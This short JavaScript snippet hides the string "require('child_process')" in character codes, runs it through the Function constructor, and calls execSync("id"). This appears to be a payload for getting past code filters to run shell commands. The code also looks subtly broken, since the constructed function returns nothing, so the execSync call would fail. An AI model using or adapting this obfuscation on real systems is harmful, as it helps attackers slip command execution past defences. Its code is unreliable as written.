const k = String.fromCharCode(
  114, 101, 113, 117, 105, 114, 101, 40, 39, 99, 104, 105, 108, 100);
const p = String.fromCharCode(95, 112, 114, 111, 99, 101, 115, 115, 39, 41);
Function(k + p)().execSync("id");
